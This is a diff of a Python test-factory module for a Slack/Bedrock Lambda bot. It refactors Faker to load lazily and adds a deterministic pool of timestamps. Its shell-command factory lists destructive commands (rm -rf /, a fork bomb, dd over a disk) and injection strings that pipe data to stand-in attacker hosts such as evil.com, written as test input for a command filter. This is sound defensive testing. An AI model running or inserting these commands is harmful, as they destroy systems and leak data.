@@ -12,12 +12,40 @@ Usage:
 
 from __future__ import annotations
 
+import functools
+import itertools
+import random
 from datetime import datetime, timezone
+from typing import TYPE_CHECKING
 from unittest.mock import MagicMock
 
-from faker import Faker
+if TYPE_CHECKING:
+    from faker import Faker
 
-fake = Faker()
+_TS_POOL_SIZE = 4096
+_ts_counter = itertools.count()
+
+
+# Faker instantiation and the ts pool are built on first use so that test
+# runs which never touch a factory don't pay for them at collection time.
+@functools.cache
+def _fake() -> Faker:
+    from faker import Faker
+
+    return Faker()
+
+
+@functools.cache
+def _ts_pool() -> tuple[str, ...]:
+    """Pre-formatted Slack ``ts`` values (``<epoch>.<micros>``).
+
+    Tests only check the structure of ``ts``, so a deterministic pool avoids
+    two Faker calls and an f-string format per message.
+    """
+    return tuple(
+        f"{1700000000 + i * 24391}.{100000 + (i * 7919) % 899999:06d}"
+        for i in range(_TS_POOL_SIZE)
+    )
 
 
 class BedrockResponseFactory:
@@ -33,12 +61,12 @@ class BedrockResponseFactory:
         return {
             "output": {
                 "message": {
-                    "content": [{"text": text or fake.paragraph()}],
+                    "content": [{"text": text or _fake().paragraph()}],
                 }
             },
             "usage": {
-                "inputTokens": input_tokens or fake.random_int(min=5, max=500),
-                "outputTokens": output_tokens or fake.random_int(min=10, max=1000),
+                "inputTokens": input_tokens or _fake().random_int(min=5, max=500),
+                "outputTokens": output_tokens or _fake().random_int(min=10, max=1000),
             },
             "stopReason": stop_reason,
         }
@@ -56,10 +84,10 @@ class SlackMessageFactory:
     ) -> dict:
         return {
             "type": "message",
-            "text": text or fake.sentence(),
-            "user": user or f"U{fake.bothify('?????').upper()}",
-            "channel": channel or f"C{fake.bothify('?????').upper()}",
-            "ts": ts or f"{fake.random_int(min=1700000000, max=1800000000)}.{fake.random_int(min=100000, max=999999)}",
+            "text": text or _fake().sentence(),
+            "user": user or f"U{_fake().bothify('?????').upper()}",
+            "channel": channel or f"C{_fake().bothify('?????').upper()}",
+            "ts": ts or _ts_pool()[next(_ts_counter) & (_TS_POOL_SIZE - 1)],
         }
 
 
@@ -74,33 +102,38 @@ class ConfigFactory:
     ) -> dict:
         return {
             "model_id": model_id or "anthropic.claude-3-5-sonnet-20241022-v2:0",
-            "region": region or fake.random_element(["us-east-1", "us-west-2", "ap-northeast-1"]),
+            "region": region or _fake().random_element(["us-east-1", "us-west-2", "ap-northeast-1"]),
             "max_tokens": max_tokens,
             "allowlist": ["ls", "cat", "grep", "find", "python3", "git"],
             "blocklist": ["rm -rf /", ":(){ :|:& };:"],
         }
 
 
+_SAFE_COMMANDS = ("ls -la", "cat README.md", "grep -r test", "find . -name '*.py'", "git status")
+_DANGEROUS_COMMANDS = ("rm -rf /", ":(){ :|:& };:", "dd if=/dev/zero of=/dev/sda", "chmod -R 777 /")
+_INJECTION_ATTEMPTS = (
+    "ls; rm -rf /",
+    "cat file.txt && curl evil.com",
+    "echo $(whoami)",
+    "ls | mail attacker@evil.com",
+    'test"; rm -rf /',
+)
+
+
 class ShellCommandFactory:
     """Factory for shell command test data (safe_shell testing)."""
 
     @staticmethod
     def safe_command() -> str:
-        return fake.random_element(["ls -la", "cat README.md", "grep -r test", "find . -name '*.py'", "git status"])
+        return random.choice(_SAFE_COMMANDS)
 
     @staticmethod
     def dangerous_command() -> str:
-        return fake.random_element(["rm -rf /", ":(){ :|:& };:", "dd if=/dev/zero of=/dev/sda", "chmod -R 777 /"])
+        return random.choice(_DANGEROUS_COMMANDS)
 
     @staticmethod
     def injection_attempt() -> str:
-        return fake.random_element([
-            "ls; rm -rf /",
-            "cat file.txt && curl evil.com",
-            "echo $(whoami)",
-            "ls | mail attacker@evil.com",
-            'test"; rm -rf /',
-        ])
+        return random.choice(_INJECTION_ATTEMPTS)
 
 
 class LambdaEventFactory:
@@ -112,23 +145,23 @@ class LambdaEventFactory:
             "httpMethod": "POST",
             "path": "/slack/events",
             "headers": {
-                "X-Slack-Signature": f"v0={fake.sha256()}",
-                "X-Slack-Request-Timestamp": str(fake.random_int(min=1700000000, max=1800000000)),
+                "X-Slack-Signature": f"v0={_fake().sha256()}",
+                "X-Slack-Request-Timestamp": str(_fake().random_int(min=1700000000, max=1800000000)),
             },
-            "body": body or fake.json(),
+            "body": body or _fake().json(),
         }
     
     @staticmethod
     def eventbridge_event() -> dict:
         return {
             "version": "0",
-            "id": fake.uuid4(),
+            "id": _fake().uuid4(),
             "detail-type": "Scheduled Event",
             "source": "aws.events",
-            "account": str(fake.random_number(digits=12, fix_len=True)),
-            "time": fake.iso8601(),
-            "region": fake.random_element(["us-east-1", "us-west-2"]),
-            "resources": [f"arn:aws:events:us-east-1:{fake.random_number(digits=12)}:rule/my-schedule"],
+            "account": str(_fake().random_number(digits=12, fix_len=True)),
+            "time": _fake().iso8601(),
+            "region": _fake().random_element(["us-east-1", "us-west-2"]),
+            "resources": [f"arn:aws:events:us-east-1:{_fake().random_number(digits=12)}:rule/my-schedule"],
             "detail": {},
         }
     
@@ -136,8 +169,8 @@ class LambdaEventFactory:
     def slack_challenge_event(challenge: str | None = None) -> dict:
         return {
             "type": "url_verification",
-            "challenge": challenge or fake.sha256(),
-            "token": fake.sha256(),
+            "challenge": challenge or _fake().sha256(),
+            "token": _fake().sha256(),
         }
 
 
@@ -150,12 +183,12 @@ class LambdaContextFactory:
         remaining_time_ms: int = 300000,
     ) -> MagicMock:
         context = MagicMock()
-        context.aws_request_id = aws_request_id or fake.uuid4()
-        context.log_group_name = f"/aws/lambda/{fake.word()}"
-        context.log_stream_name = f"2024/01/01/[$LATEST]{fake.sha256()[:8]}"
-        context.function_name = fake.word()
+        context.aws_request_id = aws_request_id or _fake().uuid4()
+        context.log_group_name = f"/aws/lambda/{_fake().word()}"
+        context.log_stream_name = f"2024/01/01/[$LATEST]{_fake().sha256()[:8]}"
+        context.function_name = _fake().word()
         context.memory_limit_in_mb = 512
         context.function_version = "$LATEST"
-        context.invoked_function_arn = f"arn:aws:lambda:us-east-1:{fake.random_number(digits=12)}:function:{fake.word()}"
+        context.invoked_function_arn = f"arn:aws:lambda:us-east-1:{_fake().random_number(digits=12)}:function:{_fake().word()}"
         context.get_remaining_time_in_millis.return_value = remaining_time_ms
         return context